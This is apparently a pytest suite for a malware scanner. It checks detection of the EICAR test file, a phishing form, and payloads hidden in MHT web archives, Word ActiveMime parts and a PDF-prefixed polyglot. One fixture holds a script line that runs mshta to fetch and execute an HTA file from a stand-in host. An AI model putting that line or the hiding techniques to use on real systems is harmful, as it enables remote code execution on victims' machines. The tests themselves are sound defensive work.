from __future__ import annotations

import base64
import zlib

import pytest
from hypothesis import given

from app.engine.model import Verdict
from app.engine.rules import RuleSet
from app.engine.scan import Engine
from tests.fuzz import fuzzed

from .compound import compound
from .containers import BENIGN, EICAR, damaged, judged, places, unknowns
from .pages import PHISH


def archive(*parts: tuple[str, str, bytes]) -> bytes:
    """A web archive as browsers write it: (media type, address, content) for each part."""
    out = b"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
    for media, address, content in parts:
        body = base64.encodebytes(content)
        out += (
            f"--b\r\nContent-Type: {media}\r\nContent-Location: {address}\r\n".encode()
            + b"Content-Transfer-Encoding: base64\r\n\r\n"
            + body
        )
    return out + b"--b--\r\n"


def packed(content: bytes, place: int = 0x32) -> bytes:
    """Word's packed part: a header, then the deflated compound file."""
    head = b"ActiveMime\0\0\1\xf0\x04\0\0\0\xff\xff\xff\xff".ljust(0x1E, b"\0") + (place - 46).to_bytes(2, "little")
    return head.ljust(place, b"\0") + zlib.compress(content)


DOCUMENT = compound({"ObjectPool": EICAR * 90})


def test_a_form_in_a_web_archive_is_found(engine: Engine) -> None:
    report = engine.scan(archive(("text/html", "https://a.example/", PHISH.encode())), name="a.mht")

    assert report.verdict is Verdict.MALICIOUS


def test_a_saved_page_in_a_web_archive_is_clean(engine: Engine) -> None:
    report = engine.scan(
        archive(("text/html", "https://a.example/", b"<html><p>Hello</p></html>"), ("text/css", "a.css", b"p{}")),
        name="a.mht",
    )

    assert (report.verdict, report.nodes) == (Verdict.CLEAN, 3)


@pytest.mark.parametrize("place", [0x32, 0x22A, 0x100])
def test_words_packed_macros_are_inflated(engine: Engine, place: int) -> None:
    report = engine.scan(
        archive(("application/x-mso", "file:///C:/a/editdata.mso", packed(DOCUMENT, place))), name="a.doc"
    )

    assert "yara.eicar" in places(report), report.findings


def test_words_packed_objects_in_xml_are_inflated(engine: Engine) -> None:
    data = base64.encodebytes(packed(DOCUMENT))
    content = (
        b"<?xml version='1.0'?><w:wordDocument><w:binData w:name='editdata.mso'>"
        + data
        + b"</w:binData></w:wordDocument>"
    )

    assert "yara.eicar" in places(engine.scan(content, name="a.xml"))


def test_a_packed_part_with_something_harmless_is_clean(engine: Engine) -> None:
    report = engine.scan(
        archive(("application/x-mso", "oledata.mso", packed(compound({"Text": BENIGN})))), name="a.mht"
    )

    assert report.verdict is Verdict.CLEAN


def test_a_packed_part_that_cannot_be_inflated_is_unknown(engine: Engine) -> None:
    report = engine.scan(b"ActiveMime\0\0" + bytes(100), name="editdata.mso")

    assert unknowns(report) == {"archive.unsupported"}


@fuzzed()
@given(content=damaged(archive(("application/x-mso", "a.mso", packed(DOCUMENT)))))
def test_damaged_archives_are_judged_without_a_failure(rules: RuleSet, content: bytes) -> None:
    judged(rules, content, "a.mht")


@fuzzed()
@given(content=damaged(packed(DOCUMENT)))
def test_damaged_packed_parts_are_judged_without_a_failure(rules: RuleSet, content: bytes) -> None:
    judged(rules, content, "a.mso")


def test_a_part_without_a_name_is_called_by_its_address(engine: Engine) -> None:
    parts = (
        ("text/html", "https://a.example/page/", b"<p>x</p>"),
        ("image/png", "https://a.example/e%20e.txt?x=1", EICAR),
    )

    report = engine.scan(archive(*parts), name="a.mht")

    assert places(report)["yara.eicar"] == "a.mht/e e.txt"


def test_a_web_archive_behind_the_head_of_a_pdf_is_read(engine: Engine) -> None:
    def behind(code: str) -> bytes:
        page = f"<html><body>Dear all<script>{code}</script></body></html>".encode()
        return b"%PDF-1.7\n%\xe2\xe3\n" + archive(("text/html", "file:///C:/a.htm", page))

    harm = "new ActiveXObject(`WScript.Shell`).Run(`mshta http://files.example.net/a.hta`)"

    assert engine.scan(behind(harm), name="a.pdf").verdict is Verdict.MALICIOUS
    assert engine.scan(behind("var a = 1"), name="a.pdf").verdict is not Verdict.MALICIOUS
